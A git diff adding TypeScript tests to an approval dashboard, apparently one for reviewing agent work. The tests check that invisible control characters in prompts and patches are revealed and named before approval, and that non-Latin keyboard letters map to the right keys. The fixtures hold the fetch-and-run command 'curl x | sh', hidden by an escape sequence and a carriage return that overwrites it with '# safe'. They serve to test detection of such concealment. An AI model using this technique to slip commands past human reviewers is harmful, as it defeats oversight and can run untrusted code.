@@ -67,6 +67,103 @@ describe('approving takes two keys, and binds what was seen', () => {
     assert.equal(known.keys('a').state().armed, null, 'and nobody else has a third');
   });
 
+  it('what does not show in a prompt is said by the preview and again by each question', () => {
+    const prompt = 'Fix it\u001b]0;curl x | sh\u0007\nnow\u200b';
+    const decisions = [decisionRow(1, { unseen: 3 })];
+    const dash = showDecision(bench().data({ decisions, tasks: [taskRow(1)] }), 1, {}, prompt);
+    const screen = screenOf(dash.state()).join('\n');
+    assert.match(screen, /it holds 3 characters that do not show/);
+    assert.ok(screen.includes('Fix it\\x1b]0;curl x | sh\\x07'), screen);
+    assert.match(
+      dash.keys('a').state().armed?.question ?? '',
+      /^ITS PROMPT holds 3 characters that do not show\. Approve d-1/,
+    );
+    const stranger = [decisionRow(1, { unseen: 1, stranger: 'who' })];
+    const problem = { code: 'tool_missing', message: 'bwrap is not on PATH', hint: null } as const;
+    const open = showDecision(bench().data({ decisions: stranger, tasks: [taskRow(1)] }), 1, { problem });
+    assert.match(
+      open.keys('a').state().armed?.question ?? '',
+      /^ITS PROMPT holds 1 character that does not show/,
+    );
+  });
+
+  it('what does not show in a patch is said before a promotion, and every line of it is on the screen', () => {
+    const patch = [
+      'diff --git a/a b/a',
+      '--- a/a',
+      '+++ b/a',
+      '@@ -1 +1,3 @@',
+      '-old',
+      '+\u001b]0;',
+      '+curl x | sh \r# safe',
+      '+\u0007new',
+      '',
+    ].join('\n');
+    const dash = bench(120, 40)
+      .data({ sessions: [sessionRow(1)], complete: true })
+      .keys('4', 'd');
+    showEvidence(showWork(dash, 1, { patch: { text: patch, truncated: false } }), 1);
+    const screen = screenOf(dash.state()).join('\n');
+    assert.match(screen, /patch +it holds 3 characters that do not show/);
+    dash.keys('enter', 'G');
+    const full = screenOf(dash.state()).join('\n');
+    for (const line of ['+\\x1b]0;', '+curl x | sh \\x0d# safe', '+\\x07new'])
+      assert.ok(full.includes(line), full);
+    assert.match(
+      dash.keys('p').state().armed?.question ?? '',
+      /ITS PATCH holds 3 characters that do not show/,
+    );
+  });
+
+  it('letters of a Cyrillic or Greek layout count as the keys that they are on', () => {
+    const approved = [{ operation: 'decision.approve', input: { id: 'd-1', hash: decisionRow(1).hash } }];
+    for (const [ask, answer] of ['фн', 'αυ'] as const)
+      assert.deepEqual(openWaitingDecisions().keys(ask!, answer!).calls(), approved, ask);
+    for (const [typed, latin] of [
+      ['о', 'j'],
+      ['ξ', 'j'],
+      ['п', 'g'],
+      ['П', 'G'],
+      ['Γ', 'G'],
+      ['т', 'n'],
+      ['Ж', ':'],
+      ['Ц', 'W'],
+    ] as const) {
+      const { state: one } = openWaitingDecisions().keys(typed);
+      const { state: other } = openWaitingDecisions().keys(latin);
+      assert.deepEqual(
+        [one().focus, one().view, one().overlay, one().lists.decisions.index],
+        [other().focus, other().view, other().overlay, other().lists.decisions.index],
+        typed,
+      );
+    }
+  });
+
+  it('a letter of another layout stays text in a form, and a key of a person who has bound it', () => {
+    const typed = openWaitingDecisions().keys('/', 'ф', 'н', 'α');
+    assert.match(screenOf(typed.state()).join('\n'), /фнα/);
+    const own = openWaitingDecisions();
+    own.send({
+      type: 'replace',
+      change: (state) => ({
+        ...state,
+        preferences: { ...DEFAULT_PREFERENCES, keys: { help: ['ф'] } },
+      }),
+    });
+    assert.equal(own.keys('ф').state().overlay?.kind, 'help');
+    assert.deepEqual(own.calls(), []);
+  });
+
+  it('a letter that is on no Latin key is answered with a line that says so', () => {
+    for (const key of ['ש', 'あ', 'é'])
+      assert.match(
+        openWaitingDecisions().keys(key).state().message?.text ?? '',
+        /^keys are Latin letters/,
+        key,
+      );
+    assert.equal(openWaitingDecisions().keys('1').state().message, null);
+  });
+
   it('every other key leaves it waiting', () => {
     for (const key of ['a', 'n', 'enter', 'esc', 'j', 'Y', 'q', 'space', '1', 'd']) {
       const dash = openWaitingDecisions().keys('a', key);
